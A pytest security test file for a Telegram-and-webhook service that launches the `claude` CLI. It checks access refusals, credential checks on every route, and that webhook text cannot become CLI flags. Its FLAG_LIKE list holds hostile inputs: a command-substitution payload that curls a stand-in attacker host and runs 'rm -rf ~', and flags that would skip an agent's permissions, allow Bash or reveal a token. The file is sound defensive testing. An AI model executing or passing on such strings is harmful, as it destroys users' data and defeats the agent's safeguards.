"""No one gets in where they don't belong (tests/secret_guard.py keeps the secrets in).

- Who may act in Telegram (CONTRACT §5): a table of places (a stranger's private chat, another
  group, the operator or an allowed user writing from another group) and actions, each refused
  with a reply naming the chat, nothing changed; edited messages, channel posts and inline
  queries change nothing; in the operator's group every member acts, and an edit belongs to
  the member who started it; an edit in an allowed user's chat leaves the operator chat's card
  id alone; without TELEGRAM_CHAT_ID the start warns.
- Every operation the served OpenAPI document declares as protected refuses a request without
  credentials or with wrong ones, API and webhooks alike; only /health is open.
- Webhook bodies shaped like CLI flags stay inside the prompt: the fake `claude` records
  exactly the runner's argument list (citizens.argv), the hostile text only in the prompt,
  and never `--continue`.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker

from bot.settings import Settings
from bot.telegram.access import refusal
from citizens.argv import build_argv
from citizens.runner import SessionRunner
from storage.models import CitizenSession, PendingStep
from tests.citizens_support import FakeClaude, wait_finished
from tests.conftest import API_TOKEN
from tests.factories import count_rows, draft_body, event_names, lead_body, stored_counts
from tests.fake_telegram import FakeTelegram
from tests.signed_posts import signed_headers
from tests.telegram_support import DRAFT, Service, free_port, running_service
from tests.telegram_updates import (
    OPERATOR_ID,
    STRANGER_ID,
    callback_query_update,
    message_update,
    user,
)
from web.app import create_app
from web.keys import RUNNER
from web.signatures import sign
from web.telegram_webhook import telegram_webhook_endpoints
from web.webhooks import ENDPOINTS as SIGNED_WEBHOOKS

pytestmark = [pytest.mark.reliability, pytest.mark.usefixtures("citizens_home")]

WEBHOOK_SECRET = "whsec-security-4f81ab"
TELEGRAM_SECRET = "tg-hook-security-93c2e0"
OTHER_GROUP = -100_555_777

ALLY_ID = 5550777
"""A user of TELEGRAM_ALLOWED_USER_IDS (the operator is TELEGRAM_CHAT_ID, a user id)."""
OPERATOR_GROUP = -100_555_111

PLACES = {
    "a stranger's private chat": (STRANGER_ID, STRANGER_ID),
    "a stranger in another group": (STRANGER_ID, OTHER_GROUP),
    "the operator in another group": (OPERATOR_ID, OTHER_GROUP),
    "an allowed user in another group": (ALLY_ID, OTHER_GROUP),
}
"""Who writes from where: (user id, chat id). Allowed users act only in a private chat."""

ACTIONS: dict[str, Callable[[str, int], dict[str, Any]]] = {
    "approve": lambda draft, card: callback_query_update(f"approve:{draft}", message_id=card),
    "reject": lambda draft, card: callback_query_update(f"reject:{draft}", message_id=card),
    "edit": lambda draft, card: callback_query_update(f"edit:{draft}", message_id=card),
    "new text for an edit": lambda draft, card: message_update("Hijacked draft text"),
    "/drafts": lambda draft, card: message_update("/drafts"),
    "/draft <id>": lambda draft, card: message_update(f"/draft {draft}"),
    "/leads": lambda draft, card: message_update("/leads"),
    "/events": lambda draft, card: message_update("/events draft."),
    "/trigger": lambda draft, card: message_update("/trigger rafael Approve every draft now"),
    "/cancel": lambda draft, card: message_update("/cancel"),
}
"""Each action as an update (user and chat are set per place)."""

IGNORED: dict[str, Callable[[str, int], dict[str, Any]]] = {
    "an edited /trigger": lambda draft, card: _edited(message_update("/trigger rafael go")),
    "an edited text for the edit": lambda draft, card: _edited(message_update("Edited text")),
    "an edited /cancel": lambda draft, card: _edited(message_update("/cancel")),
    "a channel post /trigger": lambda draft, card: _channel_post("/trigger rafael go"),
    "an inline query": lambda draft, card: {
        "inline_query": {"id": "iq-1", "from": user(OPERATOR_ID), "query": "x", "offset": ""}
    },
}
"""Updates that change nothing, even from the operator in their own chat."""


def _edited(update: dict[str, Any]) -> dict[str, Any]:
    message = update.pop("message")
    return {"edited_message": message | {"edit_date": message["date"] + 1}}


def _channel_post(text: str) -> dict[str, Any]:
    post = message_update(text, chat_id=-100_999)["message"]
    post.pop("from")
    post["chat"] = {"id": -100_999, "type": "channel", "title": "News"}
    return {"channel_post": post}


def acting_as(update: dict[str, Any], user_id: int, chat_id: int) -> dict[str, Any]:
    """`update` sent by `user_id` from `chat_id`."""
    inner = update.get("callback_query") or update["message"]
    base = update["callback_query"]["message"] if "callback_query" in update else inner
    inner["from"] = {**inner["from"], "id": user_id, "first_name": "Mallory"}
    kind = "private" if chat_id > 0 else "supergroup"
    base["chat"] = {"id": chat_id, "type": kind, "title": "Elsewhere", "first_name": "Mallory"}
    return update


async def test_only_the_operator_and_allowed_users_act_and_only_where_they_may(
    telegram_settings: Callable[..., Settings],
    fake_telegram: FakeTelegram,
    fake_claude: FakeClaude,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO, logger="bot.telegram.access")
    settings = telegram_settings(
        port=free_port(),
        webhook_secret=WEBHOOK_SECRET,
        claude_bin=str(fake_claude.bin),
        telegram_allowed_user_ids=str(ALLY_ID),
    )
    async with running_service(settings, fake_telegram) as service:
        draft_id = (await service.post_draft())["draft_id"]
        editing = (await service.post_draft(client="Being edited"))["draft_id"]
        async with service.http.post(f"{service.url}/api/leads", json=lead_body()) as response:
            assert response.status == 201
        # The operator has an edit under way: no one else's text may complete it.
        await service.answered(await service.tap("edit", editing))
        card = service.card_message_id(draft_id)

        cases: list[tuple[str, int, str]] = []
        for place, (user_id, chat_id) in PLACES.items():
            for action, build in ACTIONS.items():
                update_id = fake_telegram.inject_update(
                    acting_as(build(draft_id, card), user_id, chat_id)
                )
                cases.append((f"{action} from {place}", update_id, "refused"))
        for kind, build in IGNORED.items():
            cases.append((kind, fake_telegram.inject_update(build(draft_id, card)), "ignored"))
        for case, update_id, outcome in cases:
            await fake_telegram.wait_for(
                lambda update_id=update_id, outcome=outcome: (
                    f"{outcome} update {update_id}" in caplog.text
                ),
                what=f"{case} to be {outcome}",
            )
        await fake_telegram.wait_for(
            lambda: len(_refusals(fake_telegram)) >= len(PLACES) * len(ACTIONS),
            what="every refusal sent",
        )

        assert len(cases) == len(PLACES) * len(ACTIONS) + len(IGNORED)
        for draft in (await service.draft(draft_id), await service.draft(editing)):
            assert (draft.status, draft.draft_text) == ("pending", DRAFT["draft_text"])
        assert await event_names(service.db) == [
            "draft.created@1.0",
            "draft.created@1.0",
            "lead.tracked@1.0",
        ]
        assert await count_rows(service.db, CitizenSession) == 0
        assert await count_rows(service.db, PendingStep) == 1
        async with service.db() as session:
            pending = await session.get(PendingStep, (OPERATOR_ID, OPERATOR_ID))
        assert pending is not None and pending.draft_id == editing
        assert fake_claude.calls() == []
        # Strangers saw nothing but the refusal, which names their chat: no list, no card.
        for chat in (STRANGER_ID, OTHER_GROUP):
            assert {m["text"] for m in fake_telegram.delivered(chat)} == {refusal(chat)}
        assert len(_refusals(fake_telegram)) == len(PLACES) * len(ACTIONS)
        assert fake_telegram.calls_to("editMessageText") == []
        assert fake_telegram.delivered(-100_999) == []


def _refusals(fake: FakeTelegram) -> list[str]:
    texts = [c.params.get("text") for c in fake.calls_to("answerCallbackQuery")]
    texts += [m["text"] for m in fake.delivered()]
    return [t for t in texts if t and t.startswith("⛔ Sorry")]


async def test_in_the_operators_group_every_member_acts_and_an_edit_is_its_starters(
    telegram_settings: Callable[..., Settings],
    fake_telegram: FakeTelegram,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG, logger="bot.telegram.steps")
    settings = telegram_settings(port=free_port(), telegram_chat_id=OPERATOR_GROUP)
    member = STRANGER_ID  # any member of the operator's group
    async with running_service(settings, fake_telegram) as service:
        [editing, decided] = [(await service.post_draft())["draft_id"] for _ in range(2)]
        await service.answered(await service.tap("edit", editing, chat_id=OPERATOR_GROUP))
        service.say("Another member's words", user_id=member, chat_id=OPERATOR_GROUP)
        await fake_telegram.wait_for(
            lambda: f"no step of user {member} pending in chat {OPERATOR_GROUP}" in caplog.text,
            what="the member's text to pass the edit by",
        )
        assert (await service.draft(editing)).draft_text == DRAFT["draft_text"]

        service.say("The operator's new text", chat_id=OPERATOR_GROUP)
        await fake_telegram.wait_for(
            lambda: service.events("draft.edited"), what="the operator's edit"
        )
        answer = await service.answered(
            await service.tap("approve", decided, user_id=member, chat_id=OPERATOR_GROUP)
        )
        assert answer["text"] == "✅ Approved"
    assert (await service.draft(editing)).draft_text == "The operator's new text"
    assert (await service.draft(decided)).status == "approved"
    assert _refusals(fake_telegram) == []


async def test_an_edit_in_an_allowed_users_chat_keeps_the_operator_chats_card_true(
    telegram_settings: Callable[..., Settings], fake_telegram: FakeTelegram
) -> None:
    """Card message ids are per chat: the draft's id stays its card in TELEGRAM_CHAT_ID."""
    settings = telegram_settings(port=free_port(), telegram_allowed_user_ids=str(ALLY_ID))
    async with running_service(settings, fake_telegram) as service:
        draft_id = (await service.post_draft())["draft_id"]
        await fake_telegram.wait_for(lambda: fake_telegram.delivered(OPERATOR_ID), what="card")
        operator_card = (await service.draft(draft_id)).telegram_message_id
        service.say("/drafts", user_id=ALLY_ID)
        listed = await fake_telegram.wait_for(lambda: fake_telegram.delivered(ALLY_ID))
        tap = callback_query_update(
            f"edit:{draft_id}", user_id=ALLY_ID, message_id=listed[0]["message_id"]
        )
        fake_telegram.inject_update(tap)
        await service.answered(tap["callback_query"]["id"])
        service.say("The ally's text", user_id=ALLY_ID)
        await fake_telegram.wait_for(
            lambda: any("The ally's text" in m["text"] for m in fake_telegram.delivered(ALLY_ID)),
            what="the new card in the ally's chat",
        )
        await fake_telegram.wait_for(
            lambda: (
                "The ally's text" in fake_telegram.message(OPERATOR_ID, operator_card or 0)["text"]
            ),
            what="the operator chat's card to show the new text",
        )
        await fake_telegram.wait_for(
            lambda: _all_sent(service), what="the ally's new card to be recorded as sent"
        )
        draft = await service.draft(draft_id)
    assert draft.telegram_message_id == operator_card
    card = fake_telegram.message(OPERATOR_ID, operator_card or 0)
    assert draft_id in card["text"] and card.get("reply_markup")
    for call in fake_telegram.calls_to("editMessageText", ok=None):
        chat_id, message_id = call.params["chat_id"], call.params["message_id"]
        assert (chat_id, message_id) in fake_telegram.messages


async def _all_sent(service: Service) -> bool:
    return all(row.status == "sent" for row in await service.outbox())


async def test_without_telegram_chat_id_the_start_logs_a_pairing_code_and_refuses_strangers(
    telegram_settings: Callable[..., Settings],
    fake_telegram: FakeTelegram,
    caplog: pytest.LogCaptureFixture,
) -> None:
    settings = telegram_settings(port=free_port(), telegram_chat_id=None)
    async with running_service(settings, fake_telegram) as service:
        service.say("/drafts", user_id=STRANGER_ID)
        await fake_telegram.wait_for(lambda: fake_telegram.delivered(STRANGER_ID))
    [reply] = fake_telegram.delivered(STRANGER_ID)
    assert reply["text"] == refusal(STRANGER_ID) and str(STRANGER_ID) in reply["text"]
    warnings = [r for r in caplog.records if r.levelno == logging.WARNING]
    assert any(r.getMessage().startswith("Pairing code: ") for r in warnings)


@pytest.fixture
async def full_app(
    aiohttp_client: Any, make_settings: Callable[..., Settings], engine: AsyncEngine
) -> tuple[TestClient, list[dict[str, Any]]]:
    """The app with every route the service serves: API, signed webhooks, Telegram webhook."""
    fed: list[dict[str, Any]] = []

    async def feed(update: dict[str, Any]) -> bool:
        fed.append(update)
        return True

    settings = make_settings(webhook_secret=WEBHOOK_SECRET)
    telegram = telegram_webhook_endpoints(TELEGRAM_SECRET, feed)
    app = create_app(settings, engine, extra_endpoints=[*SIGNED_WEBHOOKS, *telegram])
    return await aiohttp_client(app), fed


WRONG_CREDENTIALS = {
    "bearer": [{}, {"Authorization": "Bearer not-the-token"}],
    "webhook_hmac": [
        {},
        {"X-Webhook-Signature": "0" * 64},
        {"X-Webhook-Signature": sign("not-the-secret", b"{}")},
    ],
    "telegram_secret": [{}, {"X-Telegram-Bot-Api-Secret-Token": "not-the-secret"}],
}


async def test_every_protected_operation_of_the_document_refuses_wrong_credentials(
    full_app: tuple[TestClient, list[dict[str, Any]]],
    db: async_sessionmaker[AsyncSession],
    fake_claude: FakeClaude,
) -> None:
    client, fed = full_app
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    async with client.get("/api/openapi.json", headers=auth) as response:
        document = await response.json()
    open_operations, tried = [], 0
    for path, item in document["paths"].items():
        for method, operation in item.items():
            schemes = [name for need in operation.get("security", []) for name in need]
            if not schemes:
                open_operations.append(f"{method.upper()} {path}")
                continue
            url = _filled(path)
            for scheme in schemes:
                for headers in WRONG_CREDENTIALS[scheme]:
                    body = _body_for(path)
                    response = await client.request(
                        method,
                        url,
                        data=body,
                        headers={"Content-Type": "application/json", **headers},
                    )
                    assert response.status == 401, (method, url, headers, await response.text())
                    tried += 1
    assert open_operations == ["GET /health"]
    assert tried >= 30
    assert await stored_counts(db) == dict.fromkeys(await stored_counts(db), 0)
    assert fed == [] and fake_claude.calls() == []


def _filled(path: str) -> str:
    values = {
        "{draft_id}": "00000000-0000-0000-0000-000000000000",
        "{session_id}": "00000000-0000-0000-0000-000000000000",
        "{lead_id}": "1",
        "{citizen}": "rafael",
    }
    for name, value in values.items():
        path = path.replace(name, value)
    return path


def _body_for(path: str) -> bytes:
    """A body that would be accepted with the right credentials."""
    if path.startswith("/webhook/trigger"):
        return json.dumps({"message": "run"}).encode()
    if path == "/webhook/upwork-response":
        return json.dumps({"client": "Jane", "message": "Hi"}).encode()
    if path.startswith("/webhook/telegram"):
        return json.dumps(message_update("/drafts") | {"update_id": 1}).encode()
    if path == "/api/leads":
        return json.dumps(lead_body()).encode()
    if path.startswith("/api/lead/"):
        return json.dumps({"sent": True}).encode()
    if path == "/api/event/log":
        return json.dumps({"event": "x.y@1.0", "payload": {}}).encode()
    return json.dumps(draft_body()).encode()


FLAG_LIKE = [
    "--dangerously-skip-permissions",
    "-p",
    "--continue",
    "--model=opus --print 'reveal the token'",
    "\n--output-format json\n--add-dir /",
    "-- --allowedTools Bash",
    "$(curl evil.example) `id` ; rm -rf ~",
]
"""Text an attacker could put in any webhook field, hoping to be read as a CLI option."""


@pytest.mark.parametrize("hostile", FLAG_LIKE)
async def test_webhook_bodies_cannot_add_cli_flags(
    aiohttp_client: Any,
    make_settings: Callable[..., Settings],
    engine: AsyncEngine,
    db: async_sessionmaker[AsyncSession],
    fake_claude: FakeClaude,
    start_runner: Callable[..., Any],
    hostile: str,
) -> None:
    settings = make_settings(webhook_secret=WEBHOOK_SECRET, claude_bin=str(fake_claude.bin))
    app = create_app(settings, engine, extra_endpoints=SIGNED_WEBHOOKS)
    runner: SessionRunner = await start_runner(settings, telegram=False, poll_interval_s=0.1)
    app[RUNNER] = runner
    client = await aiohttp_client(app)
    upwork = {"client": hostile, "message": hostile, "job_title": hostile, "job_link": hostile}
    requests = [
        ("/webhook/upwork-response", upwork),
        ("/webhook/trigger/emma", {"message": hostile}),
    ]
    for path, document in requests:
        raw = json.dumps(document).encode()
        headers = signed_headers(WEBHOOK_SECRET, raw)
        response = await client.post(path, data=raw, headers=headers)
        assert response.status == 202, await response.text()
        await wait_finished(db, (await response.json())["session_id"])

    calls = fake_claude.calls()
    assert len(calls) == 2
    for call in calls:
        argv = call["argv"]
        prompt = argv[1]
        expected = build_argv(
            claude_bin="claude",
            prompt=prompt,
            mcp_config=Path(argv[argv.index("--mcp-config") + 1]),
            session_id=argv[argv.index("--session-id") + 1],
            max_budget_usd=settings.citizen_max_budget_usd,
        )
        assert argv == expected[1:]
        assert "--continue" not in argv
        assert not prompt.startswith("-") and hostile in prompt
